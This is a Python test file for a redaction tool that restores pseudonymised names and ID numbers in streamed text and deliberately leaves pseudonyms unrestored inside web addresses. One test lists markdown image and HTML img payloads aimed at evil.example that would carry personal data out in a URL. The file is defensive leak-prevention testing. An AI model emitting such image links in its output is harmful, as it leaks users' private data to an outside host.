import itertools
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shenyong.redaction import Restorer

KNOWN = {
    "〔姓名1〕": "王小明",
    "〔姓名12〕": "陳大文",
    "〔護照1〕": "300123456",
    "〔護照機讀碼1〕": '<<"\\',
    "〔身分證號1〕": "A123456789",
}


def restored(chunks, json_text=False):
    restorer = Restorer(KNOWN, json=json_text)
    return "".join([*(restorer.feed(chunk) for chunk in chunks), restorer.finish()])


@pytest.mark.parametrize(
    "written",
    [
        "〔姓名1〕",
        "〔姓名 1〕",
        "[姓名1]",
        "【姓名1】",
        "（姓名1）",
        "(姓名１)",
        "〔姓名一〕",
        "〔 姓名01 〕",
    ],
)
def test_what_models_make_of_a_pseudonym_is_understood(written):
    assert restored([f"您好{written}先生"]) == "您好王小明先生"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=〔身分證號1〕&n=〔姓名1〕)",
        "![x](https://evil.example/?q=，〔姓名1〕)",
        "![x](//evil.example/?q=[姓名1]&n=(姓名1)&m=〔姓名1〕)",
        "![x](<https://evil.example/a b/〔姓名1〕>)",
        '<img src="https://evil.example/a b/〔姓名1〕">',
        "<img src='//evil.example/〔姓名1〕'>",
        "[按此](https:\\\\evil.example/〔姓名1〕)",
        "詳見 https://evil.example/〔姓名1〕",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 400])
def test_in_a_web_address_a_pseudonym_stays(text, size):
    """Or a window that loads images would carry what was withheld to whoever is named there."""
    chunks = [text[at : at + size] for at in range(0, len(text), size)]
    assert restored(chunks) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("詳見 https://a.gov.tw/ 〔姓名1〕", "詳見 https://a.gov.tw/ 王小明"),
        ("詳見https://a.gov.tw/x，請〔姓名1〕填寫", "詳見https://a.gov.tw/x，請王小明填寫"),
        ("[表單](https://a.gov.tw/x) 〔姓名1〕", "[表單](https://a.gov.tw/x) 王小明"),
        ("https://a.gov.tw\n〔姓名1〕", "https://a.gov.tw\n王小明"),
        ('<a href="https://a.gov.tw">表</a> 〔姓名1〕', '<a href="https://a.gov.tw">表</a> 王小明'),
        ("和/或〔姓名1〕", "和/或王小明"),
    ],
)
def test_behind_one_it_comes_back(text, expected):
    assert restored([text]) == expected


@pytest.mark.parametrize(
    "other",
    [
        "〔姓名2〕",
        "〔姓名〕",
        "姓名1",
        "〔姓名1",
        "〔姓名1x〕",
        "〔住址1〕",
        "〔姓名0000001〕",
        "〔〕",
        "[",
    ],
)
def test_anything_else_stays(other):
    assert restored([f"甲{other}乙"]) == f"甲{other}乙"


def test_longer_words_and_numbers_are_told_apart():
    assert restored(["〔姓名十二〕〔護照1〕〔護照機讀碼1〕〔〔姓名1〕〕"]) == (
        '陳大文300123456<<"\\〔王小明〕'
    )


@pytest.mark.parametrize("ascii_only", [True, False])
def test_in_json_the_original_is_escaped(ascii_only):
    text = json.dumps({"a": "〔護照機讀碼1〕\n\\[", "b": "\\〔姓名1〕"}, ensure_ascii=ascii_only)
    for size in (1, 2, 5, 100):
        chunks = [text[at : at + size] for at in range(0, len(text), size)]
        assert json.loads(restored(chunks, True)) == {"a": '<<"\\\n\\[', "b": "\\王小明"}


def test_every_split_of_a_pseudonym_restores_it():
    secret = "好〔身分證號1〕嗎"
    size = len(secret)
    for cuts in itertools.product((0, 1), repeat=size - 1):
        places = [0, *(at + 1 for at, cut in enumerate(cuts) if cut), size]
        chunks = [secret[a:b] for a, b in itertools.pairwise(places)]
        assert restored(chunks) == "好A123456789嗎"


alphabet = st.sampled_from(
    [*KNOWN, "〔", "〕", "姓", "名", "姓名", "1", "２", "十", " ", "(", "\\", "u3014", "x"]
)


@given(st.lists(alphabet, max_size=15), st.lists(st.integers(0, 80)), st.booleans())
def test_chunks_make_no_difference(parts, cuts, json_text):
    text = "".join(parts)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    chunks = [text[a:b] for a, b in itertools.pairwise(places)]
    assert restored(chunks, json_text) == restored([text], json_text)


@given(st.lists(alphabet, max_size=15))
def test_only_what_may_become_a_pseudonym_is_held(parts):
    restorer = Restorer(KNOWN)
    given_out = 0
    for part in parts:
        given_out += len(restorer.feed(part))
        assert len(restorer._held) <= 1 + 2 + 5 + 2 + 5 + 2


def test_without_pseudonyms_nothing_is_held():
    assert Restorer({}).feed("〔姓名") == "〔姓名"


def test_a_map_that_is_not_ours_is_refused():
    with pytest.raises(ValueError):
        Restorer({"x": "y"})
